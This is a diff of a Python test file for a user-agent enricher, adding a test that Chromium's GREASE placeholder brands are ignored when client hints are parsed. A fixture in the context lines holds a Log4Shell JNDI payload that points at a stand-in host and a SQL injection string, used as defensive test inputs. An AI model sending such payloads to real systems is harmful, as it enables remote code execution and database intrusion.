@@ -18,6 +18,7 @@ from streaming_app.enrichers.user_agent import COLUMNS, KEPT, UserAgent
 from streaming_app.enrichers.user_agent.bots import TOO_WIDE
 from streaming_app.enrichers.user_agent.options import UserAgentOptions
 from streaming_app.errors import ConfigError
+from streaming_app.transformers.gtm_server.hints import read_hints as gtm_hints
 
 Row = dict[str, Any]
 
@@ -212,6 +213,25 @@ UNLISTED_BOTS = {
     "an attack": "${jndi:ldap://teahouse.example/a}",
     "another attack": f"{MAC}' UNION ALL SELECT NULL--",
 }
+
+
+GREASE = [f"Not{first}A{second}Brand" for first in " (:-./);=?_" for second in " (:-./);=?_"]
+"""All placeholders that Chromium makes up: https://wicg.github.io/ua-client-hints/#grease."""
+
+
+@pytest.mark.parametrize("place", [0, 1, 2])
+def test_placeholders_are_no_brands(place: int) -> None:
+    """Neither to the enricher nor to the columns of GTM's events, wherever in the lists they are."""
+    for name in [*GREASE, " Not A;Brand", ";Not A Brand", "(Not(A:Brand", '\\Not"A\\Brand']:
+        short, exact = (
+            [{"brand": brand, "version": version} for brand in ("Chromium", "Opera")] for version in ("120", "120.0.1")
+        )
+        for brands in (short, exact):
+            brands.insert(place, {"brand": name, "version": "8.0.0.0"})
+        text = json.dumps({"brands": short, "full_version_list": exact, "platform": "Windows", "mobile": False})
+        columns = gtm_hints(text)
+        assert (columns.device_mobile_brand_name, columns.device_ua_browser) == ("Opera", "Opera"), name
+        assert (columns.device_ua_browser_version, enriched("", text)["browser"]) == ("120.0.1", "Opera"), name
 
 
 @pytest.mark.parametrize("agent", PEOPLE_IN_TROUBLE.values(), ids=PEOPLE_IN_TROUBLE)
